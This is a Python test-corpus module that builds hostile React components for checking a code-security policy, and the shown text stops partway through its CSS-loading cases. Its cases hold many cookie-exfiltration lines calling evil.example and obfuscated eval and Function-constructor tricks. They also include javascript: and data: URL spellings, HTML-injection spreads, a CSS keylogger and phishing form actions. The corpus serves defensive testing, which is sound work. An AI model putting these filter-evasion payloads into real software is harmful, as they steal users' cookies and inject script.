r"""Hostile component.tsx files: each one the code policy must refuse (at least one finding).

Every case is a complete component. Most are one hostile snippet put into an otherwise
benign scaffold by `wrap(snippet, where)`: `Widget(props: WidgetProps)` with state, an
effect, a click handler, a ref callback and a list, all of it allowed, so that only the
snippet can be the reason for a finding (`test_policy_corpus` checks that the bare
scaffold, in every place, has none). The places are:

- "module":  top level, between the props interface and the component;
- "render":  the component body, before the effect (declarations the JSX then uses);
- "effect":  a `React.useEffect` body that runs when the widget opens;
- "handler": the button's click handler (`event` is a React mouse event);
- "ref":     a ref callback (`el` is the mounted `HTMLDivElement`);
- "jsx":     a child of the root element.

`render=`, `module=` and `imports=` add benign-looking context to another place (a `let`
the JSX reads, a payload string, an import).

The families (what each one does to get past a deny-list of names):

- escaped-identifiers: `\u0065val`, `\u{66}etch`, `local\u0053torage`, escaped keys;
- function-constructor: `Function` reached without its name (`.constructor` chains,
  `Reflect`, async/generator prototypes, computed and escaped keys, tagged templates);
- string-timers: `setTimeout`/`setInterval` running a string, reached through aliases,
  `Reflect.apply`, `.call`/`.apply`/`.bind`, tagged templates, `String(...)`;
- eval-as-value: `eval`/`Function` passed around as a value (`[s].forEach(eval)`, ...);
- markup-injection: raw HTML without the attribute's name in the source (spreads of
  `JSON.parse`/`Object.fromEntries`, `Reflect.set`, `DOMParser`, `setHTMLUnsafe`, ...);
- jsx-spreads: spreads of anything but the component's own props;
- runtime-urls: URLs assembled at run time (`decodeURIComponent`, `let` prefixes, blobs,
  getters, `toString`, `Proxy`, state, memos);
- script-schemes: `javascript:`/`vbscript:`/`data:text/html` in every spelling (entities,
  tabs, case, leading control characters, escapes, templates);
- remote-resources: `src`/`srcSet`/`poster`/`xlinkHref`/... to other hosts, in every URL
  spelling browsers accept (`//h`, `/\h`, `https:h`, entities, tabs, case);
- css-loading: `url()`, `image-set()`, `@import`, `@font-face` in style objects, `<style>`
  and element styles (CSS escapes, custom properties, concatenation);
- jsx-elements: `<script>`, `<iframe>`, `<object>`, `<embed>`, `<link>`, SVG `<animate>`,
  a tag held in a variable, `React.createElement` of a computed tag;
- descriptors: cookies, storage and setters through property descriptors and getters;
- cookies-storage: cookies and storage through aliases, destructuring, computed keys;
- prototype-pollution: writes to built-ins and their prototypes (`Object.assign`,
  `__proto__`, `defineProperty` getters, `Error.prepareStackTrace`);
- global-objects: the window by other names (`self`, `frames`, `top`, `parent`, `opener`,
  `document.defaultView`, `el.ownerDocument`, `event.view`, `getRootNode()`, aliases);
- network: exfiltration (`fetch`, beacons, images, sockets, workers, WebRTC, `ping`,
  forms, clipboard and geolocation reads);
- navigation: `location`, `top.location`, `history`, meta refresh, `<base>`, form actions;
- module-loading: `import()`, `require`, `import.meta`, packages outside the allow-list,
  path and scope traversal, URL and `data:` specifiers;
- document-access: `document` beyond `getElementById`/`activeElement` in an effect or
  handler (keyloggers, page reads, `document.domain`, `document.open`, getters).

To add a case: append `("a-unique-name", wrap(snippet, where))` to its family's list (or
start a new `_family`); write what an attacker would write to do harm (run a string,
exfiltrate, inject markup, navigate, load a remote resource), valid TSX, with nothing else
in it that the policy could object to. Names must be unique across the corpus.
"""

from __future__ import annotations

import base64
import textwrap
from dataclasses import dataclass

PLACES = ("module", "render", "effect", "handler", "ref", "jsx")


@dataclass(frozen=True)
class Case:
    family: str
    name: str
    source: str


def _block(code: str, depth: int) -> str:
    lines = textwrap.dedent(code).strip("\n").splitlines()
    return "\n".join(" " * depth + line if line.strip() else "" for line in lines)


def wrap(snippet: str, where: str, *, render: str = "", module: str = "", imports: str = "") -> str:
    """A complete, otherwise benign component.tsx with `snippet` at `where` (see PLACES)."""
    if where not in PLACES:
        raise ValueError(f"unknown place {where!r}; one of {PLACES}")
    slots = dict.fromkeys(PLACES, "")
    slots[where] = snippet
    slots["render"] = "\n".join(s for s in (render, slots["render"]) if s)
    slots["module"] = "\n".join(s for s in (module, slots["module"]) if s)

    def slot(place: str, depth: int) -> list[str]:
        return [_block(slots[place], depth)] if slots[place].strip() else []

    lines = ['import React from "react";']
    lines += [_block(imports, 0)] if imports.strip() else []
    lines += [
        "",
        "export interface WidgetProps {",
        "  label: string;",
        "  items?: string[];",
        "  onSelect?: (item: string) => void;",
        "}",
        "",
    ]
    lines += [*slot("module", 0), ""] if slots["module"].strip() else []
    lines += [
        "export function Widget(props: WidgetProps) {",
        "  const { label, items = [], onSelect } = props;",
        "  const [open, setOpen] = React.useState(false);",
        "  const rootRef = React.useRef<HTMLDivElement | null>(null);",
        *slot("render", 2),
        "",
        "  React.useEffect(() => {",
        "    if (!open) return;",
        *slot("effect", 4),
        "  }, [open, label]);",
        "",
        "  const handleClick = (event: React.MouseEvent<HTMLButtonElement>) => {",
        "    event.preventDefault();",
        "    setOpen((value) => !value);",
        *slot("handler", 4),
        "  };",
        "",
        "  const attach = (el: HTMLDivElement | null) => {",
        "    rootRef.current = el;",
        "    if (!el) return;",
        *slot("ref", 4),
        "  };",
        "",
        "  return (",
        '    <div ref={attach} className="widget" data-open={open}>',
        '      <button type="button" aria-expanded={open} onClick={handleClick}>',
        "        {label}",
        "      </button>",
        *slot("jsx", 6),
        "      <ul>",
        "        {items.map((item) => (",
        "          <li key={item}>",
        '            <button type="button" onClick={() => onSelect?.(item)}>',
        "              {item}",
        "            </button>",
        "          </li>",
        "        ))}",
        "      </ul>",
        "    </div>",
        "  );",
        "}",
        "",
        "export default Widget;",
        "",
    ]
    return "\n".join(lines)


def _family(family: str, *cases: tuple[str, str]) -> list[Case]:
    return [Case(family, name, source) for name, source in cases]


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


STEAL = "fetch('https://evil.example/c?d=' + encodeURIComponent(document.cookie))"
JS_URL = "javascript:alert(document.cookie)"
TAB = "\t"

ESCAPED_IDENTIFIERS = _family(
    "escaped-identifiers",
    ("eval-u4-escape", wrap(r'\u0065val("' + STEAL + '");', "effect")),
    ("eval-u-brace-escapes", wrap(r'\u{65}\u{76}\u{61}\u{6c}("' + STEAL + '");', "effect")),
    ("eval-escape-mid-name", wrap(r'ev\u0061l("' + STEAL + '");', "handler")),
    (
        "fetch-u-brace-escape",
        wrap(
            r"""
            \u{66}etch("https://evil.example/collect", {
              method: "POST",
              body: JSON.stringify({ label, items }),
            });
            """,
            "effect",
        ),
    ),
    (
        "fetch-fully-escaped",
        wrap(r'\u0066\u0065\u0074\u0063\u0068("https://evil.example/?l=" + label);', "effect"),
    ),
    (
        "localStorage-escape",
        wrap(r'onSelect?.(local\u0053torage.getItem("auth_token") ?? "");', "effect"),
    ),
    ("sessionStorage-escape", wrap(r'sessi\u006fnStorage.setItem("role", "admin");', "module")),
    ("document-escape-cookie", wrap(r"onSelect?.(docum\u0065nt.cookie);", "handler")),
    ("property-escape-cookie", wrap(r"onSelect?.(document.\u0063ookie);", "effect")),
    ("property-escape-innerHTML", wrap(r"el.inner\u0048TML = label;", "ref")),
    (
        "destructured-escaped-key",
        wrap(r"const { \u0063ookie: jar } = document;" "\nonSelect?.(jar);", "effect"),
    ),
    (
        "Function-escape",
        wrap(r'new \u0046unction("' + STEAL + '")();', "effect"),
    ),
    (
        "setTimeout-escape",
        wrap(r'\u0073etTimeout("' + STEAL + '", 0);', "handler"),
    ),
    (
        "location-escape",
        wrap(r'loc\u0061tion.href = "https://evil.example/login?next=" + label;', "effect"),
    ),
    (
        "navigator-escape",
        wrap(r'navig\u0061tor.sendBeacon("https://evil.example/b", label);', "handler"),
    ),
    ("open-escape", wrap(r'\u006fpen("https://evil.example/phish", "_blank");', "module")),
    ("string-key-u-escape", wrap(r'(el as any)["\u0069nnerHTML"] = label;', "ref")),
    ("string-key-x-escape", wrap(r'(el as any)["\x69nner\x48TML"] = label;', "ref")),
    ("template-key-escape", wrap(r"onSelect?.((document as any)[`\u0063ookie`]);", "effect")),
    (
        "globalThis-escape",
        wrap(r'gl\u006fbalThis.fetch("https://evil.example/?l=" + label);', "effect"),
    ),
    (
        "shorthand-escaped-eval",
        wrap(r"const tools = { \u0065val };" '\ntools.eval("' + STEAL + '");', "effect"),
    ),
    (
        "escaped-import-specifier",
        wrap(
            r'{\u0063reatePortal(<div role="alert">Session expired</div>, document.body)}',
            "jsx",
            imports=r'import { \u0063reatePortal } from "react-dom";',
        ),
    ),
)

FUNCTION_CONSTRUCTOR = _family(
    "function-constructor",
    (
        "reflect-get-chain",
        wrap(
            'const F = Reflect.get(Reflect.get([], "constructor"), "constructor");\n'
            'F("' + STEAL + '")();',
            "effect",
        ),
    ),
    ("array-method-constructor", wrap('[].map.constructor("' + STEAL + '")();', "effect")),
    ("arrow-constructor", wrap('(() => {}).constructor("' + STEAL + '")();', "handler")),
    (
        "async-arrow-constructor",
        wrap('(async () => {}).constructor("await ' + STEAL + '")();', "effect"),
    ),
    (
        "async-function-prototype",
        wrap(
            "const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;\n"
            'new AsyncFunction("await ' + STEAL + '")();',
            "effect",
        ),
    ),
    (
        "generator-function-prototype",
        wrap(
            'Object.getPrototypeOf(function* () {}).constructor("yield ' + STEAL + '")().next();',
            "effect",
        ),
    ),
    ("string-constructor-chain", wrap('label.constructor.constructor("' + STEAL + '")();', "ref")),
    (
        "destructured-constructor",
        wrap('const { constructor: F } = Object;\nF("' + STEAL + '")();', "effect"),
    ),
    (
        "prototype-call-call",
        wrap('Function.prototype.call.call(Function, null, "' + STEAL + '")();', "handler"),
    ),
    (
        "class-extends-Function",
        wrap('new (class extends Function {})("' + STEAL + '")();', "effect"),
    ),
    ("reflect-construct", wrap('Reflect.construct(Function, ["' + STEAL + '"])();', "effect")),
    (
        "concatenated-key",
        wrap('([] as any)["constr" + "uctor"]["constr" + "uctor"]("' + STEAL + '")();', "ref"),
    ),
    (
        "template-literal-keys",
        wrap('({} as any)[`constructor`][`constructor`]("' + STEAL + '")();', "effect"),
    ),
    (
        "joined-key",
        wrap(
            'const k = ["con", "struc", "tor"].join("");\n(items as any)[k][k]("' + STEAL + '")();',
            "effect",
        ),
    ),
    (
        "decoded-key",
        wrap(
            'const k = atob("' + _b64("constructor") + '");\n'
            '(setOpen as any)[k]("' + STEAL + '")();',
            "handler",
        ),
    ),
    (
        "escaped-string-keys",
        wrap(r'(0 as any)["\u0063onstructor"]["\u0063onstructor"]("' + STEAL + '")();', "ref"),
    ),
    (
        "descriptor-of-prototype",
        wrap(
            "Object.getOwnPropertyDescriptor(Object.getPrototypeOf(() => 0), "
            '"constructor")!.value("' + STEAL + '")();',
            "effect",
        ),
    ),
    ("tagged-template-Function", wrap("Function`" + STEAL + "```;", "effect")),
    (
        "event-method-constructor",
        wrap('(event.preventDefault as any).constructor("' + STEAL + '")();', "handler"),
    ),
    (
        "element-method-constructor",
        wrap('(el.focus as any)["constructor"]("' + STEAL + '")();', "ref"),
    ),
)

STRING_TIMERS = _family(
    "string-timers",
    (
        "reflect-apply-setTimeout",
        wrap('Reflect.apply(setTimeout, null, ["' + STEAL + '"]);', "effect"),
    ),
    ("const-alias", wrap('const t = setTimeout;\nt("' + STEAL + '", 0);', "effect")),
    (
        "setInterval-alias",
        wrap('const every = setInterval;\nevery("' + STEAL + '", 5000);', "module"),
    ),
    ("String-of-prop", wrap("setTimeout(String(props.label), 0);", "effect")),
    (
        "template-body",
        wrap('setTimeout(`location.href = "https://evil.example/?u=${label}"`, 10);', "handler"),
    ),
    (
        "concatenated-body",
        wrap('setTimeout("fetch(\'https://evil.example/?l=" + label + "\')", 0);', "effect"),
    ),
    ("call", wrap('setTimeout.call(null, "' + STEAL + '", 0);', "effect")),
    ("apply", wrap('setInterval.apply(null, ["' + STEAL + '", 1000]);', "effect")),
    ("bind", wrap('setTimeout.bind(null, "' + STEAL + '")();', "handler")),
    ("tagged-template", wrap("setTimeout`" + STEAL + "`;", "effect")),
    ("array-element", wrap('[setTimeout][0]("' + STEAL + '", 0);', "ref")),
    (
        "object-alias",
        wrap('const timers = { later: setTimeout };\ntimers.later("' + STEAL + '", 0);', "effect"),
    ),
    ("comma-call", wrap('(0, setTimeout)("' + STEAL + '");', "effect")),
    (
        "conditional-alias",
        wrap('(open ? setTimeout : setInterval)("' + STEAL + '", 100);', "handler"),
    ),
    ("typed-any-value", wrap('const job: any = "' + STEAL + '";\nsetTimeout(job, 0);', "effect")),
    (
        "prop-cast-to-function",
        wrap("setTimeout(props.label as unknown as () => void, 0);", "effect"),
    ),
    (
        "promise-executor-bind",
        wrap('new Promise(setTimeout.bind(null, "' + STEAL + '", 0));', "effect"),
    ),
    ("decoded-body", wrap('setTimeout(atob("' + _b64(STEAL) + '"), 0);', "effect")),
    (
        "uri-decoded-body",
        wrap(
            'setInterval(decodeURIComponent("fetch%28%27https%3A%2F%2Fevil.example%27%29"), 10);',
            "effect",
        ),
    ),
    (
        "window-destructured",
        wrap('const { setTimeout: later } = window;\nlater("' + STEAL + '");', "effect"),
    ),
)

EVAL_AS_VALUE = _family(
    "eval-as-value",
    ("comma-eval", wrap('(0, eval)("' + STEAL + '");', "effect")),
    ("optional-call-eval", wrap('eval?.("' + STEAL + '");', "handler")),
    ("array-element-eval", wrap('[eval][0]("' + STEAL + '");', "effect")),
    ("replace-callback-eval", wrap("label.replace(/.*/, eval as (s: string) => string);", "ref")),
    ("forEach-eval", wrap('["' + STEAL + '"].forEach(eval);', "effect")),
    ("then-eval", wrap('Promise.resolve("' + STEAL + '").then(eval);', "effect")),
    ("map-Function", wrap('["' + STEAL + '"].map(Function)[0]();', "handler")),
    ("eval-call", wrap('eval.call(null, "' + STEAL + '");', "effect")),
    (
        "queueMicrotask-eval",
        wrap('queueMicrotask(eval.bind(null, "' + STEAL + '") as () => void);', "effect"),
    ),
    ("Array-from-eval", wrap('Array.from(["' + STEAL + '"], eval);', "effect")),
    ("reflect-apply-eval", wrap('Reflect.apply(eval, null, ["' + STEAL + '"]);', "handler")),
    (
        "onClick-eval-prop",
        wrap('<button type="button" onClick={() => eval(label)}>Run</button>', "jsx"),
    ),
    (
        "useEffect-eval",
        wrap('React.useEffect(eval.bind(null, "' + STEAL + '") as () => void, []);', "render"),
    ),
    ("indirect-eval-global", wrap('const g = (0, eval)("this");\ng.fetch(label);', "effect")),
)

MARKUP_INJECTION = _family(
    "markup-injection",
    (
        "spread-JSON-parse",
        wrap(
            "<div\n  {...JSON.parse(\n"
            '    \'{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}\',\n'
            "  )}\n/>",
            "jsx",
        ),
    ),
    (
        "spread-fromEntries",
        wrap(
            "<div\n  {...Object.fromEntries([\n"
            '    ["dangerously" + "SetInnerHTML", { __html: label }],\n'
            "  ])}\n/>",
            "jsx",
        ),
    ),
    ("reflect-set-innerHTML", wrap('Reflect.set(el, "innerHTML", label);', "ref")),
    (
        "DOMParser-append",
        wrap(
            'const doc = new DOMParser().parseFromString(label, "text/html");\n'
            "el.append(...Array.from(doc.body.childNodes));",
            "ref",
        ),
    ),
    ("setHTMLUnsafe", wrap("el.setHTMLUnsafe(label);", "ref")),
    ("outerHTML", wrap("el.outerHTML = label;", "ref")),
    ("insertAdjacentHTML", wrap('el.insertAdjacentHTML("beforeend", label);', "ref")),
    (
        "contextual-fragment",
        wrap("el.appendChild(document.createRange().createContextualFragment(label));", "ref"),
    ),
    ("new-Range-fragment", wrap("el.append(new Range().createContextualFragment(label));", "ref")),
    ("document-write", wrap("document.write(label);", "effect")),
    ("setAttribute-onclick", wrap('el.setAttribute("onclick", "' + STEAL + '");', "ref")),
    (
        "setAttribute-concatenated-handler",
        wrap('el.setAttribute("on" + "mouseover", "' + STEAL + '");', "ref"),
    ),
    ("Object-assign-innerHTML", wrap("Object.assign(el, { innerHTML: label });", "ref")),
    (
        "spread-computed-key",
        wrap('<div {...{ ["dangerously" + "SetInnerHTML"]: { __html: label } }} />', "jsx"),
    ),
    (
        "spread-literal-raw",
        wrap(
            "<div {...{ dangerouslySetInnerHTML: raw }} />",
            "jsx",
            render="const raw = { __html: label };",
        ),
    ),
    (
        "createElement-dangerouslySetInnerHTML",
        wrap('{React.createElement("div", { dangerouslySetInnerHTML: { __html: label } })}', "jsx"),
    ),
    ("shadow-root-innerHTML", wrap('el.attachShadow({ mode: "open" }).innerHTML = label;', "ref")),
    (
        "template-element",
        wrap(
            'const tpl = document.createElement("template");\n'
            "tpl.innerHTML = label;\nel.append(tpl.content);",
            "ref",
        ),
    ),
    (
        "computed-key-variable",
        wrap('const key = "inner" + "HTML";\n(el as any)[key] = label;', "ref"),
    ),
    ("execCommand-insertHTML", wrap('document.execCommand("insertHTML", false, label);', "effect")),
    (
        "replaceChildren-parsed",
        wrap(
            "el.replaceChildren(\n"
            '  ...Array.from(new DOMParser().parseFromString(label, "text/html").body.children),\n'
            ");",
            "ref",
        ),
    ),
    ("parent-innerHTML-append", wrap("el.parentElement!.innerHTML += label;", "ref")),
    (
        "iframe-srcdoc-assign",
        wrap(
            'el.append(Object.assign(document.createElement("iframe"), { srcdoc: label }));',
            "ref",
        ),
    ),
    (
        "state-held-raw-html",
        wrap(
            "<div {...attrs} />",
            "jsx",
            render="const [attrs] = React.useState<Record<string, unknown>>({\n"
            "  dangerouslySetInnerHTML: { __html: label },\n});",
        ),
    ),
)

JSX_SPREADS = _family(
    "jsx-spreads",
    (
        "spread-object-literal-raw",
        wrap("<div {...{ dangerouslySetInnerHTML: { __html: label } }} />", "jsx"),
    ),
    ("spread-JSON-of-prop", wrap("<div {...JSON.parse(label)} />", "jsx")),
    (
        "spread-fromEntries-href",
        wrap('<a {...Object.fromEntries([["href", "' + JS_URL + '"]])}>Docs</a>', "jsx"),
    ),
    (
        "spread-assign-over-props",
        wrap(
            '<a {...Object.assign({}, props, { href: "java" + "script:alert(1)" })}>Docs</a>',
            "jsx",
        ),
    ),
    (
        "spread-remote-src",
        wrap('<img alt="" {...{ src: "https://evil.example/p.gif?l=" + label }} />', "jsx"),
    ),
    (
        "spread-props-plus-raw",
        wrap("<div {...{ ...props, dangerouslySetInnerHTML: { __html: label } }} />", "jsx"),
    ),
    (
        "spread-computed-handler-string",
        wrap('<img src="/a.png" alt="" {...{ ["on" + "Error"]: "' + STEAL + '" }} />', "jsx"),
    ),
    (
        "spread-proxy",
        wrap(
            "<a\n"
            "  {...new Proxy({} as Record<string, string>, {\n"
            '    get: () => "' + JS_URL + '",\n'
            '    ownKeys: () => ["href"],\n'
            "    getOwnPropertyDescriptor: () => ({ enumerable: true, configurable: true }),\n"
            "  })}\n"
            ">\n  Docs\n</a>",
            "jsx",
        ),
    ),
    (
        "spread-module-constant",
        wrap(
            "<a {...attrs}>Sign in</a>",
            "jsx",
            module='const attrs = { href: "https://evil.example/login" };',
        ),
    ),
    (
        "spread-let-parsed",
        wrap(
            '<button type="submit" {...extra}>Save</button>',
            "jsx",
            render='let extra = JSON.parse(\'{"formAction":"https://evil.example/steal"}\');',
        ),
    ),
    ("spread-window-value", wrap("<div {...(window as any).__ATTRS__} />", "jsx")),
)

RUNTIME_URLS = _family(
    "runtime-urls",
    (
        "decodeURIComponent-href",
        wrap(
            "<a\n  href={decodeURIComponent(\n"
            "    \"javascript%3Afetch('https%3A%2F%2Fevil.example%2F%3Fc%3D'\"\n"
            '    + "%2Bdocument.cookie)",\n'
            "  )}\n>\n  Docs\n</a>",
            "jsx",
        ),
    ),
    (
        "let-prefix",
        wrap(
            '<a href={scheme + "script:alert(document.cookie)"}>Docs</a>',
            "jsx",
            render='let scheme = "java";',
        ),
    ),
    (
        "blob-object-url",
        wrap(
            '<a href={preview} target="_blank" rel="noreferrer">\n  Preview\n</a>',
            "jsx",
            render="const preview = URL.createObjectURL(\n"
            '  new Blob(["<script>' + STEAL + '</script>"], { type: "text/html" }),\n'
            ");",
        ),
    ),
    (
        "remote-src-in-let",
        wrap(
            '<img src={pixel} alt="" />',
            "jsx",
            render='let pixel = "https://evil.example/p.gif?l=" + encodeURIComponent(label);',
        ),
    ),
    ("atob-href", wrap('<a href={atob("' + _b64(JS_URL) + '")}>Docs</a>', "jsx")),
    (
        "joined-href",
        wrap('<a href={["javascript", "alert(document.cookie)"].join(":")}>Docs</a>', "jsx"),
    ),
    (
        "fromCharCode-href",
        wrap(
            "<a href={String.fromCharCode(106, 97, 118, 97, 115, 99, 114, 105, 112, 116, 58) + "
            '"alert(1)"}>\n  Docs\n</a>',
            "jsx",
        ),
    ),
    (
        "prop-rewritten",
        wrap('<a href={props.label.replace(/^https?:/, "javascript:")}>Docs</a>', "jsx"),
    ),
    (
        "prop-concatenated",
        wrap('<a href={props.label + "?next=https://evil.example/login"}>Docs</a>', "jsx"),
    ),
    (
        "state-held-remote",
        wrap(
            '<img src={avatar} alt="" />',
            "jsx",
            render='const [avatar] = React.useState("https://evil.example/t.gif?u=" + label);',
        ),
    ),
    (
        "template-remote-src",
        wrap(
            '<img src={`https://evil.example/p.gif?l=${encodeURIComponent(label)}`} alt="" />',
            "jsx",
        ),
    ),
    (
        "new-URL-action",
        wrap(
            '<form action={new URL("/collect", "https://evil.example").href} method="post">\n'
            '  <input name="password" type="password" />\n'
            "</form>",
            "jsx",
        ),
    ),
    ("encodeURI-href", wrap('<a href={encodeURI("' + JS_URL + '")}>Docs</a>', "jsx")),
    (
        "toString-object-href",
        wrap('<a href={{ toString: () => "' + JS_URL + '" } as unknown as string}>Docs</a>', "jsx"),
    ),
    (
        "toPrimitive-href",
        wrap(
            '<a href={{ [Symbol.toPrimitive]: () => "' + JS_URL + '" } as unknown as string}>\n'
            "  Docs\n</a>",
            "jsx",
        ),
    ),
    (
        "getter-href",
        wrap(
            "<a href={link.url}>Docs</a>",
            "jsx",
            render="const link = {\n  get url() {\n"
            '    return "java" + "script:alert(1)";\n  },\n};',
        ),
    ),
    (
        "btoa-data-href",
        wrap(
            '<a href={"data:text/html;base64," + btoa("<script>' + STEAL + '</script>")}>Docs</a>',
            "jsx",
        ),
    ),
    (
        "const-object-member",
        wrap(
            "<a href={links.home}>Sign in</a>",
            "jsx",
            render='const links = { home: "https://evil.example/login" };',
        ),
    ),
    (
        "unescape-href",
        wrap('<a href={unescape("%6Aavascript:alert(document.cookie)")}>x</a>', "jsx"),
    ),
    (
        "decodeURI-href",
        wrap('<a href={decodeURI("javascript:%61lert(document.cookie)")}>x</a>', "jsx"),
    ),
    (
        "mapped-href",
        wrap(
            '{["' + JS_URL + '"].map((u) => (\n  <a key={u} href={u}>\n    Docs\n  </a>\n))}', "jsx"
        ),
    ),
    (
        "memo-href",
        wrap(
            "<a href={next}>Continue</a>",
            "jsx",
            render='const next = React.useMemo(() => "https://evil.example/" + label, [label]);',
        ),
    ),
    (
        "proxy-href",
        wrap(
            "<a href={safe.href}>Docs</a>",
            "jsx",
            render="const safe = new Proxy({} as { href: string }, {\n"
            '  get: () => "' + JS_URL + '",\n});',
        ),
    ),
    (
        "joined-srcSet",
        wrap(
            '<img\n  src="/a.png"\n'
            '  srcSet={["/a.png 1x", "https://evil.example/b.png 2x"].join(", ")}\n'
            '  alt=""\n/>',
            "jsx",
        ),
    ),
    (
        "assigned-anchor-href",
        wrap('el.querySelector("a")!.href = "java" + "script:alert(document.cookie)";', "ref"),
    ),
)

SCRIPT_SCHEMES = _family(
    "script-schemes",
    ("javascript-plain", wrap('<a href="' + JS_URL + '">Docs</a>', "jsx")),
    ("javascript-mixed-case", wrap('<a href="JaVaScRiPt:alert(document.cookie)">Docs</a>', "jsx")),
    (
        "decimal-entity",
        wrap('<a href="&#106;avascript:alert(document.cookie)">Docs</a>', "jsx"),
    ),
    (
        "hex-entities",
        wrap(
            '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;'
            'alert(1)">\n  Docs\n</a>',
            "jsx",
        ),
    ),
    ("entity-colon", wrap('<a href="javascript&#58;alert(document.cookie)">Docs</a>', "jsx")),
    ("tab-entity", wrap('<a href="jav&#x09;ascript:alert(document.cookie)">Docs</a>', "jsx")),
    ("literal-tab", wrap('<a href="java' + TAB + 'script:alert(document.cookie)">Docs</a>', "jsx")),
    ("leading-spaces", wrap('<a href="  javascript:alert(document.cookie)">Docs</a>', "jsx")),
    ("u-escape", wrap(r'<a href={"java\u0073cript:alert(document.cookie)"}>Docs</a>', "jsx")),
    ("u-brace-escape", wrap(r'<a href={"\u{6A}avascript:alert(document.cookie)"}>Docs</a>', "jsx")),
    ("newline-escape", wrap(r'<a href={"java\nscript:alert(document.cookie)"}>Docs</a>', "jsx")),
    (
        "leading-control-character",
        wrap(r'<a href={"\x01javascript:alert(document.cookie)"}>Docs</a>', "jsx"),
    ),
    (
        "template-literal",
        wrap('<a href={`javascript:${"alert(document.cookie)"}`}>Docs</a>', "jsx"),
    ),
    (
        "comment-newline",
        wrap('<a href="javascript://%0aalert(document.cookie)">Docs</a>', "jsx"),
    ),
    ("vbscript", wrap('<a href="vbscript:msgbox(document.cookie)">Docs</a>', "jsx")),
    (
        "data-html-base64",
        wrap(
            '<a href="data:text/html;base64,'
            + _b64("<script>alert(document.cookie)</script>")
            + '">\n  Docs\n</a>',
            "jsx",
        ),
    ),
    (
        "data-html-upper-case",
        wrap('<a href="DATA:TEXT/HTML,<script>alert(document.cookie)</script>">Docs</a>', "jsx"),
    ),
    (
        "form-action-javascript",
        wrap('<form action="' + JS_URL + '">\n  <button type="submit">Go</button>\n</form>', "jsx"),
    ),
    (
        "formAction-javascript",
        wrap('<button type="submit" formAction="' + JS_URL + '">\n  Save\n</button>', "jsx"),
    ),
    (
        "svg-xlinkHref-javascript",
        wrap(
            '<svg>\n  <a xlinkHref="' + JS_URL + '">\n    <text y="16">Docs</text>\n  </a>\n</svg>',
            "jsx",
        ),
    ),
    (
        "area-href",
        wrap(
            '<map name="m">\n'
            '  <area href="' + JS_URL + '" alt="Docs" shape="rect" coords="0,0,10,10" />\n'
            "</map>",
            "jsx",
        ),
    ),
    (
        "concatenated-expression",
        wrap('<a href={"javascript" + ":" + "alert(document.cookie)"}>Docs</a>', "jsx"),
    ),
)

REMOTE_RESOURCES = _family(
    "remote-resources",
    (
        "img-remote-literal",
        wrap('<img src="https://evil.example/pixel.gif" alt="" width={1} height={1} />', "jsx"),
    ),
    ("img-protocol-relative", wrap('<img src="//evil.example/p.gif" alt="" />', "jsx")),
    ("img-upper-case-scheme", wrap('<img src="HTTPS://EVIL.EXAMPLE/p.gif" alt="" />', "jsx")),
    ("img-scheme-without-slashes", wrap('<img src="https:evil.example/p.gif" alt="" />', "jsx")),
    ("img-backslash-host", wrap(r'<img src="/\evil.example/p.gif" alt="" />', "jsx")),
    ("img-entity-colon", wrap('<img src="https&#58;//evil.example/p.gif" alt="" />', "jsx")),
    (
        "img-tab-in-scheme",
        wrap('<img src="ht' + TAB + 'tps://evil.example/p.gif" alt="" />', "jsx"),
    ),
    ("img-expression-literal", wrap('<img src={"https://evil.example/p.gif"} alt="" />', "jsx")),
    (
        "img-srcSet",
        wrap(
            '<img src="/a.png" srcSet="/a.png 1x, https://evil.example/b.png 2x" alt="" />', "jsx"
        ),
    ),
    (
        "picture-source",
        wrap(
            "<picture>\n"
            '  <source srcSet="https://evil.example/b.webp" type="image/webp" />\n'
            '  <img src="/a.png" alt="" />\n'
            "</picture>",
            "jsx",
        ),
    ),
    ("video-poster", wrap('<video src="/intro.mp4" poster="https://evil.example/p.jpg" />', "jsx")),
    (
        "svg-use-xlinkHref",
        wrap('<svg>\n  <use xlinkHref="https://evil.example/sprite.svg#icon" />\n</svg>', "jsx"),
    ),
    ("svg-use-href", wrap('<svg>\n  <use href="//evil.example/s.svg#i" />\n</svg>', "jsx")),
    (
        "svg-image",
        wrap(
            '<svg>\n  <image href="https://evil.example/x.png" width="10" height="10" />\n</svg>',
            "jsx",
        ),
    ),
    (
        "svg-feImage",
        wrap(
            '<svg>\n  <filter id="f">\n    <feImage href="https://evil.example/f.png" />\n'
            "  </filter>\n</svg>",
            "jsx",
        ),
    ),
    ("audio-autoplay", wrap('<audio src="https://evil.example/a.mp3" autoPlay />', "jsx")),
    (
        "video-track",
        wrap(
            '<video src="/a.mp4">\n'
            '  <track src="https://evil.example/subs.vtt" kind="subtitles" />\n'
            "</video>",
            "jsx",
        ),
    ),
    (
        "input-image",
        wrap('<input type="image" src="https://evil.example/btn.png" alt="Go" />', "jsx"),
    ),
    ("a-ping", wrap('<a href="/docs" ping="https://evil.example/ping">Docs</a>', "jsx")),
    (
        "assigned-img-src",
        wrap('el.querySelector("img")!.src = "https://evil.example/p.gif";', "ref"),
    ),
)

CSS_LOADING = _family(
    "css-loading",
    (
        "style-background-url",
        wrap('<div style={{ backgroundImage: "url(https://evil.example/p.gif)" }} />', "jsx"),
    ),
    (
        "style-template-url",
        wrap("<div style={{ background: `url(//evil.example/p?l=${label})` }} />", "jsx"),
    ),
    (
        "style-tag-import",
        wrap("<style>{\"@import url('https://evil.example/x.css');\"}</style>", "jsx"),
    ),
    (
        "style-tag-keylogger",
        wrap(
            "<style>\n"
            '  {\'input[type="password"][value$="a"]'
            '{background-image:url("https://evil.example/k?a")}\'}\n'
            "</style>",
            "jsx",
        ),
    ),
    (
        "style-tag-cursor-const",
        wrap(
            "<style>{css}</style>",
            "jsx",
            module='const css = ".widget{cursor:url(https://evil.example/c.cur),auto}";',
        ),
    ),
    (
        "style-list-style-image",
        wrap('<ul style={{ listStyleImage: "url(//evil.example/i.png)" }} />', "jsx"),
    ),
    (
        "style-image-set",
        wrap(
            "<div style={{ maskImage: \"image-set('https://evil.example/m.png' 1x)\" }} />", "jsx"
        ),
    ),
    (
        "style-tag-font-face",
        wrap(
            '<style>{"@font-face{font-family:x;src:url(https://evil.example/f.woff)}"}</style>',
            "jsx",
        ),
    ),
    (
        "style-css-escape",
